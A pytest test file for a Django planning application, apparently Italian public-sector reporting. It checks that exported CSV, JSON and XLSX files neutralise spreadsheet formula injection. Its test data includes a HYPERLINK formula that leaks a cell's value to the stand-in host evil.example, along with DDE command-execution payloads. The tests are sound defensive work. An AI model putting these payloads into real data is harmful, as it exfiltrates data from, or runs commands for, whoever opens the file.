"""Exports safe to open: staff write a measurement that a spreadsheet would run as a formula, the director
downloads the open data and the Relazione. In the CSV the cell shows as text (a leading apostrophe); the JSON
keeps the exact value; in the XLSX the cell is a string, not a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from plans.models import Objective
from tests.workflow.world import World

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca qui")'
ATTACKS = [
    HYPERLINK,
    '+HYPERLINK("http://evil.example")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",  # stored trimmed: the "=" is what the CSV sees
]


def logged_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def record(world: World, value: str) -> None:
    """Sara, staff of the area, records the value through the API like any measurement."""
    response = logged_in(world.sara).post(
        f"/api/indicators/{world.indicator.pk}/measurements/",
        {"year": 2026, "value": value},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content


def download(world: World, fmt: str, kind: str = "dati-aperti") -> bytes:
    response = logged_in(world.diana).get(f"/piani/{world.plan.pk}/{kind}/2026.{fmt}")
    assert response.status_code == 200
    return response.getvalue()


@pytest.mark.parametrize("value", ATTACKS, ids=["equals", "plus", "minus", "at", "tab"])
def test_a_formula_in_a_measurement_is_text_in_the_csv_and_exact_in_the_json(world: World, value: str) -> None:
    record(world, value)
    rows = list(csv.DictReader(io.StringIO(download(world, "csv").decode("utf-8"))))
    actual = next(row["actual"] for row in rows if row["indicator"] == "Utenti presi in carico")
    assert actual == "'" + value.strip()  # the value is stored trimmed, as written otherwise
    document = json.loads(download(world, "json"))
    indicator = document["objectives"][0]["indicators"][0]
    assert indicator["actual"] == value.strip()


def test_every_text_column_of_the_csv_is_neutralised(world: World) -> None:
    Objective.objects.filter(pk=world.objective.pk).update(title=HYPERLINK, programme="@cmd")
    world.indicator.name, world.indicator.unit, world.indicator.description = "+1+1", "-x", "\t=cmd"
    world.indicator.save()
    world.indicator.targets.create(year=2026, raw="\r=cmd", kind="text", parsed=False)
    text = download(world, "csv").decode("utf-8")
    row = next(row for row in csv.DictReader(io.StringIO(text)) if row["objective_code"] == "SOC-1")
    assert (row["objective_title"], row["objective_programme"]) == ("'" + HYPERLINK, "'@cmd")
    assert (row["indicator"], row["unit"]) == ("'+1+1", "'-x")
    assert (row["indicator_description"], row["expected"]) == ("'\t=cmd", "'\r=cmd")
    assert json.loads(download(world, "json"))["objectives"][0]["title"] == HYPERLINK


@pytest.mark.parametrize("number", ["-5", "+3,5", "-12.5%", "-1.000,50", "42"])
def test_plain_numbers_are_left_as_they_are(number: str) -> None:
    from reports.render.opendata import spreadsheet_safe  # here: the other tests run on a version without it

    assert spreadsheet_safe(number) == number


def test_a_formula_in_a_measurement_is_a_string_cell_in_the_xlsx(world: World) -> None:
    record(world, HYPERLINK)
    sheet = load_workbook(io.BytesIO(download(world, "xlsx", kind="relazione")))["Indicatori"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HYPERLINK]
    assert cells and all(cell.data_type == "s" for cell in cells)
